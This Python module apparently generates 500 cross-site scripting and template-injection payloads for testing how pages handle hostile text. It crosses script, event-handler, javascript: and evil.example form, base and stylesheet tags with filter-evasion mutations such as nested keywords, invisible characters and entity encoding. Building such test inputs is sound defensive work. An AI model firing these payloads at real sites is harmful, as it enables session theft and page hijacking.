"""Five hundred texts that would do harm if a page took them for more than texts."""

from __future__ import annotations

import itertools

# ruff: noqa: E501
TAGS = (
    "<script>alert({n})</script>", "<img src=x onerror=alert({n})>", "<svg onload=alert({n})>", "<b>{n}</b>",
    "'><script>alert({n})</script>", '"><script>alert({n})</script>', '" onmouseover="alert({n})', "' autofocus onfocus='alert({n})",
    "</title><script>alert({n})</script>", "</textarea><script>alert({n})</script>", "</table><iframe src=javascript:alert({n})>",
    "{{{{ {n} * {n} }}}}", "{{% for x in [{n}] %}}{{{{x}}}}{{% endfor %}}", "javascript:alert({n})", "<!--{n}--><script>alert(1)</script>",
    "<a href='javascript:alert({n})'>x</a>", "<math><mi//xlink:href='data:x,<script>alert({n})</script>'>", "<style>*{{color:{n}}}</style>",
    "<form action=//evil.example><button>{n}</button></form>", "`${{alert({n})}}`", "&lt;script&gt;alert({n})&lt;/script&gt;",
    "<details open ontoggle=alert({n})>", "<base href=//evil.example/{n}>", "<link rel=stylesheet href=//evil.example/{n}>", "\\u003cscript>{n}",
)  # fmt: skip
CHANGES = (str, str.upper, lambda text: text.replace("script", "scr<script>ipt"), lambda text: text.replace("<", "<\u2028"),
           lambda text: text.replace(" ", "/"), lambda text: text.replace("alert", "a\u200dlert"), lambda text: "x" + text + "x",
           lambda text: text[::-1] + text, lambda text: text.replace(">", " >"), lambda text: text.replace("<", "<<"),
           lambda text: "&" + text, lambda text: text + "\\", lambda text: text.replace("=", " = "), lambda text: text.title(),
           lambda text: "\u202e" + text, lambda text: text.replace("'", '"'), lambda text: text.replace('"', "'"),
           lambda text: text.replace("(", "&#40;"), lambda text: "--" + text, lambda text: text.swapcase())  # fmt: skip
PAYLOADS = [change(tag.format(n=n)) for n, (change, tag) in enumerate(itertools.product(CHANGES, TAGS))]


def allowed(text):
    return "".join(letter for letter in text if letter.isprintable())[:190]
